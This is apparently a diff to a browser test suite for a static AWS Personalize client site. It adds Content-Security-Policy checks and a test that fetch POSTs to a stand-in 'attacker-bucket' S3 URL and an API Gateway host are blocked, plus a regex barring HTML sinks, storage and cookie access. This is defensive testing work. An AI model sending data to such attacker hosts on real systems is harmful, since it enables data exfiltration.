@@ -2,8 +2,8 @@
 // that sends .wasm with a wrong MIME type and has no local-endpoint.json, the page starts in AWS
 // mode; switched to the local endpoint by hand, it creates a tracker. No third-party request.
 //
-// The site is what `./build.sh dist DIR` writes (minified modules; the .wasm is rebuilt only when
-// stale, so other tests reading web/personalize.wasm are undisturbed).
+// The site is what `./build.sh dist DIR --connect-src ORIGIN` writes (minified modules; the .wasm is
+// rebuilt only when stale, so other tests reading web/personalize.wasm are undisturbed).
 
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
@@ -16,8 +16,12 @@ import { startEmulator, DEMO_CREDENTIALS } from './emulator/server.mjs';
 import { startStaticServer } from './browser/static-server.mjs';
 import { launch, watch, ROOT, WEB } from './browser/harness.mjs';
 
-/** build.sh dist's rule: web/*.{html,css,mjs,wasm,svg}, without node-*.mjs and cli.mjs. */
-const inDist = (name) => /\.(html|css|mjs|wasm|svg)$/.test(name) && !/^node-.*\.mjs$/.test(name) && name !== 'cli.mjs';
+/** build.sh dist's rule: web/*.{html,css,mjs,wasm,svg}, without node-*.mjs, gen_*.mjs and cli.mjs. */
+const inDist = (name) => /\.(html|css|mjs|wasm|svg)$/.test(name) && !/^(node-|gen_).*\.mjs$/.test(name) && name !== 'cli.mjs';
+const CUSTOM_ORIGIN = 'https://personalize.example.test:8443';
+/** A page's Content-Security-Policy (its meta tag) as directive -> sources. */
+const csp = (html) => new Map(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)[1].split(';')
+  .map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
 const PAGE_FILES = (name) => /^(index\.html|style\.css|app(-[\w-]+)?\.mjs)$/.test(name);
 
 describe('dist: the static site from a subfolder', { timeout: 90_000 }, () => {
@@ -25,7 +29,7 @@ describe('dist: the static site from a subfolder', { timeout: 90_000 }, () => {
 
   before(async () => {
     dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pw-dist-'));
-    execFileSync('bash', [path.join(ROOT, 'build.sh'), 'dist', dir], { cwd: ROOT, stdio: 'ignore' });
+    execFileSync('bash', [path.join(ROOT, 'build.sh'), 'dist', dir, '--connect-src', CUSTOM_ORIGIN], { cwd: ROOT, stdio: 'ignore' });
     emu = await startEmulator({ port: 0, admin: true, demo: true, stepMs: 50, log: () => {} });
     site = await startStaticServer({ root: dir, base: '/sub/dir/', wrongWasmMime: true });
     browser = await launch();
@@ -58,6 +62,15 @@ describe('dist: the static site from a subfolder', { timeout: 90_000 }, () => {
       }
       if (PAGE_FILES(name)) assert.doesNotMatch(code, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|localStorage|document\.cookie|console\.\w/, `${name}: no HTML sinks, storage or logs`);
     }
+    // connect-src: the source page's (named Personalize hosts and loopback) plus exactly the custom origin.
+    const policy = csp(html);
+    const source = csp(fs.readFileSync(path.join(WEB, 'index.html'), 'utf8'));
+    const connect = policy.get('connect-src');
+    assert.deepEqual(connect.filter((s) => s !== CUSTOM_ORIGIN), source.get('connect-src'));
+    assert.equal(connect.filter((s) => s === CUSTOM_ORIGIN).length, 1, 'the custom origin, once');
+    assert.ok(connect.includes('https://personalize.us-east-1.amazonaws.com') && connect.includes('https://personalize-events.eu-west-1.amazonaws.com'));
+    assert.ok(!connect.some((s) => s.includes('*.') || /s3\.amazonaws\.com/.test(s)), `no host wildcard, nothing of S3: ${connect.join(' ')}`);
+    for (const [name, sources] of source) if (name !== 'connect-src') assert.deepEqual(policy.get(name), sources, `${name} as in web/index.html`);
     const gzip = files.filter(PAGE_FILES).reduce((sum, f) => sum + zlib.gzipSync(fs.readFileSync(path.join(dir, f)), { level: 9 }).length, 0);
     t.diagnostic(`page's own files (${files.filter(PAGE_FILES).join(', ')}): ${gzip} bytes gzip -9`);
     assert.ok(gzip < 14_000, `the page's own files stay small (${gzip} bytes gzip)`);
@@ -79,7 +92,7 @@ describe('dist: the static site from a subfolder', { timeout: 90_000 }, () => {
     assert.equal(await page.getByLabel('Secret access key').inputValue(), '');
     assert.equal(await page.getByLabel('Endpoint URL').isVisible(), false);
     const groups = await page.getByLabel('Region').locator('optgroup').evaluateAll((g) => g.map((o) => o.label));
-    assert.deepEqual(groups, ['Commercial', 'China', 'GovCloud (US)']);
+    assert.deepEqual(groups, ['Commercial', 'China']);
     await page.getByLabel('FIPS endpoint').check();
     await page.getByText('Requests go to https://personalize-fips.us-east-1.amazonaws.com').waitFor();
     await page.getByLabel('Dual-stack (IPv6)').check();
@@ -112,5 +125,27 @@ describe('dist: the static site from a subfolder', { timeout: 90_000 }, () => {
     assert.ok(site.requests.every((p) => p.startsWith('/sub/dir/')), 'nothing outside the subfolder');
     assert.deepEqual([...origins].sort(), [new URL(site.url).origin, emu.url].sort(), 'no third-party request');
     assert.deepEqual(problems, []);
+  });
+
+  it('blocks connections to other AWS-owned hosts (S3, API Gateway) before any request is made', async () => {
+    const page = await browser.context.newPage();
+    // Should the policy ever let them through, they end here, not on the network.
+    const reached = [];
+    await page.route(/amazonaws\.com/, (route) => reached.push(route.request().url()) && route.abort());
+    await page.goto(site.url);
+    const outcome = await page.evaluate(async () => {
+      const blocked = [];
+      document.addEventListener('securitypolicyviolation', (e) => blocked.push(`${e.violatedDirective} ${e.blockedURI}`));
+      const results = [];
+      for (const url of ['https://attacker-bucket.s3.amazonaws.com/x', 'https://abc123.execute-api.us-east-1.amazonaws.com/x']) {
+        results.push(await fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', (e) => e.name));
+      }
+      await new Promise((r) => setTimeout(r, 50));
+      return { results, blocked };
+    });
+    assert.deepEqual(outcome.results, ['TypeError', 'TypeError']);
+    assert.deepEqual(outcome.blocked.map((b) => b.split(' ')[0]), ['connect-src', 'connect-src']);
+    assert.deepEqual(reached, [], 'no request was made');
+    await page.close();
   });
 });
